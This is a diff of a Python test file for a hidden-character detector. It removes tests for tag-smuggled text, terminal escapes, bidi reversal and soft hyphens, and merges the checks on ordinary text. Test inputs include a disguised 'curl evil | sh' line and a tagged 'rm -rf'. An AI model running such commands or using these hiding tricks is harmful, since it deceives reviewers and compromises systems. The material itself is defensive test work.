@@ -98,31 +98,10 @@ def test_every_control_character_but_tab_and_newline_is_reported() -> None:
 
 
 @pytest.mark.requirement("SEC-13")
-def test_text_smuggled_in_tags_is_reported_letter_by_letter() -> None:
-    smuggled = tagged("rm -rf")
-
-    hidden = hidden_characters(f"Hello{smuggled}!")
-
-    assert hidden == [found("tag", character) for character in smuggled]
-
-
-@pytest.mark.requirement("SEC-13")
-def test_terminal_escapes_are_reported() -> None:
-    assert hidden_characters("\x1b[2Jgone\x9b31m") == [found("control", "\x1b"), found("control", "\x9b")]
-
-
-@pytest.mark.requirement("SEC-13")
 def test_a_carriage_return_that_overwrites_its_line_is_reported() -> None:
     assert hidden_characters("curl evil | sh\r# harmless\r\n") == [found("control", "\r")]
     assert hidden_characters("end\r") == [found("control", "\r")]
     assert hidden_characters("one\r\ntwo\r\n") == []
-
-
-@pytest.mark.requirement("SEC-13")
-def test_text_turned_around_is_reported() -> None:
-    hidden = hidden_characters("if is_admin:\u202e  # \u2066 then \u2069")
-
-    assert hidden == [found("bidi", character) for character in "\u202e\u2066\u2069"]
 
 
 @pytest.mark.requirement("SEC-13")
@@ -182,11 +161,6 @@ def test_a_byte_order_mark_is_ordinary_at_the_start_only() -> None:
 
 
 @pytest.mark.requirement("SEC-13")
-def test_soft_hyphens_are_reported() -> None:
-    assert hidden_characters("Donau\u00addampf") == [found("zero-width", "\u00ad")]
-
-
-@pytest.mark.requirement("SEC-13")
 @pytest.mark.parametrize(
     ("text", "hidden"),
     [
@@ -206,8 +180,10 @@ def test_tags_after_a_flag_that_does_not_exist_are_reported(text: str, hidden: s
 
 @pytest.mark.requirement("SEC-13")
 @pytest.mark.parametrize("text", PARAGRAPHS.values(), ids=PARAGRAPHS.keys())
-def test_ordinary_text_in_any_language_hides_nothing(text: str) -> None:
+def test_ordinary_text_in_any_language_hides_nothing_and_is_left_as_it_is(text: str) -> None:
     assert hidden_characters(f"{text}\n\t{text}\r\n") == []
+    assert visible(text) == text
+    assert stripped(f"{text}\n\t{text}") == f"{text}\n\t{text}"
 
 
 @pytest.mark.requirement("SEC-13")
@@ -341,12 +317,6 @@ def test_visible_text_spells_out_what_hides(text: str, shown: str) -> None:
 
 
 @pytest.mark.requirement("SEC-13")
-@pytest.mark.parametrize("text", PARAGRAPHS.values(), ids=PARAGRAPHS.keys())
-def test_visible_leaves_ordinary_text_as_it_is(text: str) -> None:
-    assert visible(text) == text
-
-
-@pytest.mark.requirement("SEC-13")
 @properties
 @given(st.text(st.characters() | st.sampled_from(sorted(NEVER_SHOWN))))
 @example("".join(sorted(NEVER_SHOWN)))
@@ -397,12 +367,6 @@ def test_a_mebibyte_of_anything_is_read_in_one_pass(unit: str) -> None:
 )
 def test_stripped_text_is_without_what_hides(text: str, left: str) -> None:
     assert stripped(text) == left
-
-
-@pytest.mark.requirement("SEC-13")
-@pytest.mark.parametrize("text", PARAGRAPHS.values(), ids=PARAGRAPHS.keys())
-def test_stripping_leaves_ordinary_text_as_it_is(text: str) -> None:
-    assert stripped(f"{text}\n\t{text}") == f"{text}\n\t{text}"
 
 
 @pytest.mark.requirement("SEC-13")
